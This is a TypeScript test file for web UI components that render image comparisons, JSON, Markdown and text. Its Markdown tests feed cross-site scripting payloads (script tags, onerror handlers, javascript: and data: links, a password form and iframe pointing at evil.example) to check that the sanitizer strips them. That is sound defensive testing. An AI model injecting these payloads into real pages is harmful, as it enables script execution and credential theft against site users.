import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { Json } from '../../app/core/schema.ts'
import { compare, json, markdown, text } from '../../components/index.ts'
import { refusal, sent } from '../support/component-contract.ts'
import { elements, words } from '../support/markup.ts'

const test = suite('compare, json and markdown')

const output = { id: 'o', label: 'Out', inputs: {}, final: true }
const field = { name: 'n', id: 'n', label: 'N', required: true }
const shown = async (source: string) => {
  const drawn = String(await markdown().output({ ...output, value: source }))
  // Beside it is a link that saves the source.
  return drawn.slice(drawn.indexOf('<div class="markdown"'), drawn.indexOf('<p class="actions"'))
}

test('a comparison shows both pictures, and a range that waits for a script', async () => {
  const before = sent({ url: '/files/a/before.png' })
  const value = sent({ url: '/files/b/after.png' })
  const drawn = String(
    await compare({ with: 'photo' }).output({ ...output, value, inputs: { photo: before } }),
  )
  const found = elements(drawn)
  const pictures = found.filter(({ tag }) => tag === 'img').map(({ attributes }) => attributes)
  assert.equal(
    pictures.map(({ src, alt }) => [src, alt]),
    [
      ['/files/a/before.png', 'Out, before'],
      ['/files/b/after.png', 'Out, after'],
    ],
  )
  const range = found.find(({ attributes }) => attributes.type === 'range')
  assert.is(range?.attributes.hidden, '')
  assert.match(drawn, 'download="photo.png"')
})

test('a comparison with nothing is the picture alone', async () => {
  for (const inputs of [{}, { photo: null }, { photo: 'x' }] as { [name: string]: Json }[]) {
    const drawn = String(
      await compare({ with: 'photo' }).output({ ...output, value: sent(), inputs }),
    )
    assert.is(drawn.match(/<img/g)?.length, 1)
    assert.not.match(drawn, 'range')
  }
})

const read: [written: string, value: Json][] = [
  ['{"a": [1, null]}', { a: [1, null] }],
  [' [1, 2] ', [1, 2]],
  ['5', 5],
  ['"5"', '5'],
  ['true', true],
  ['hello', 'hello'],
  ['5 apples', '5 apples'],
  ['', ''],
]
for (const [written, value] of read) {
  test(`the text ${written || 'of no letters'} is read as ${JSON.stringify(value)}`, () => {
    assert.equal(json().decode(written), value)
  })
}

test('the text null is nothing that a port could be without', () => {
  assert.is(json().decode('null'), null)
})

test('text that begins as JSON and is none is refused with the reason', () => {
  assert.match(refusal(json(), '{"a": 1,}')!, /^is not JSON: .+ position 8/)
  assert.match(refusal(json(), '[1, 2')!, /^is not JSON: /)
})

test('JSON nested deeper than 100 levels is refused', () => {
  const nested = (levels: number) => '['.repeat(levels) + ']'.repeat(levels)
  assert.is(refusal(json(), nested(100)), undefined)
  assert.is(refusal(json(), nested(101)), 'must be nested at most 100 levels deep')
  assert.is(refusal(json(), JSON.parse(nested(99_999))), 'must be nested at most 100 levels deep')
})

test('a result is whatever JSON makes of it', () => {
  const when = new Date(0)
  assert.equal(json().encode({ when, gone: undefined }), { when: '1970-01-01T00:00:00.000Z' })
  assert.is(
    json().encode(() => 1),
    null,
  )
  assert.throws(() => json().encode(1n), TypeError)
})

test('a file in JSON does not tell where it lies', () => {
  const { path, ...file } = sent()
  assert.equal(json().encode({ photo: { ...file, path } }), { photo: file })
})

test('JSON is drawn indented, to be read, scrolled by keyboard and copied', async () => {
  const drawn = String(await json().output({ ...output, value: { a: [1] } }))
  const pre = elements(drawn).find(({ tag }) => tag === 'pre')
  assert.equal([pre?.attributes.tabindex, pre?.attributes.id], ['0', 'o-value'])
  assert.match(drawn, 'data-copies="o-value"')
  assert.match(drawn, 'download="out.json"')
  assert.match(drawn, '{\n  &quot;a&quot;: [\n    1\n  ]\n}</pre>')
})

test('JSON that was wrong is drawn again as it was typed', async () => {
  const drawn = async (value: Json) => String(await json().input({ ...field, value }))
  assert.match(await drawn('{"a": 1,}'), '\n{&quot;a&quot;: 1,}</textarea>')
  assert.match(await drawn({ a: 1 }), '\n{\n  &quot;a&quot;: 1\n}</textarea>')
})

test('Markdown is shown as it is meant', async () => {
  const drawn = await shown('# Title\n\nSome *words* and `code`.\n\n| a |\n|--:|\n| 1 |')
  assert.match(drawn, '<h2>Title</h2>')
  assert.match(drawn, '<em>words</em>')
  assert.match(drawn, '<td align="right">1</td>')
})

const dangers: [what: string, source: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a handler', '<a href="/" onclick="alert(1)">x</a><img src=x onerror=alert(1)>'],
  ['a javascript: link', '[x](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">y</a>'],
  ['a data: link', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a style', '<style>body{display:none}</style><p style="position:fixed">x</p>'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"><button>OK</button></form>',
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe><object data="x"></object>'],
  ['an id that shadows', '<p id="form" name="form" class="primary">x</p>'],
  ['an SVG', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['an htmx attribute', '<p hx-get="/" data-hx-get="/" hx-trigger="load">x</p>'],
]
for (const [what, source] of dangers) {
  test(`Markdown lets no ${what.replace(/^an? /, '')} through`, async () => {
    for (const { tag, attributes } of elements(await shown(source)).slice(1)) {
      assert.not.match(tag, /script|style|form|input|button|iframe|object|svg/)
      assert.not.match(Object.keys(attributes).join(' '), /\bon|style|id|name|class=|hx-|xlink/)
      assert.not.match(Object.values(attributes).join(' '), /javascript:|data:/i)
    }
  })
}

test('Markdown loads no picture from elsewhere', async () => {
  const drawn = await shown(
    '![a](https://evil.example/a.png) ![b](//evil.example/b.png) ![c](/c.png)',
  )
  assert.not.match(drawn, 'evil.example')
  assert.match(drawn, '<img src="/c.png" alt="c"')
})

const heavy = ['> '.repeat(9000), `${'- '.repeat(9000)}x`, 'x'.repeat(200_000)]
for (const source of heavy) {
  test(`Markdown too much to read, of ${source.slice(0, 2)}, is shown as it is`, async () => {
    assert.match(words(await shown(source)), source.slice(0, 100).trim())
  })
}

test('the text of a result is shown letter by letter', async () => {
  const drawn = String(await text().output({ ...output, value: ' <b> & \n x ' }))
  assert.match(drawn, '> &lt;b&gt; &amp; \n x </output>')
})

test('a long text folds, and what no address has room for is saved by a script', async () => {
  const drawn = async (value: string) => elements(String(await text().output({ ...output, value })))
  const has = (found: Awaited<ReturnType<typeof drawn>>, name: string) =>
    found.some(({ attributes }) => name in attributes)
  const [short, long, longest] = await Promise.all(
    ['hello', 'hello\n'.repeat(100), 'hello\n'.repeat(10_000)].map(drawn),
  )
  assert.equal(
    [short, long, longest].map((found) => has(found!, 'data-expand')),
    [false, true, true],
  )
  assert.equal(
    [short, long, longest].map((found) => [has(found!, 'download'), has(found!, 'data-save')]),
    [
      [true, false],
      [true, false],
      [false, true],
    ],
  )
  for (const found of [short, long, longest]) {
    const shown = found!.find(({ tag }) => tag === 'output')?.attributes
    assert.is(shown?.dir, 'auto')
    assert.is(shown?.tabindex, found === short ? undefined : '0')
  }
})

test.run()
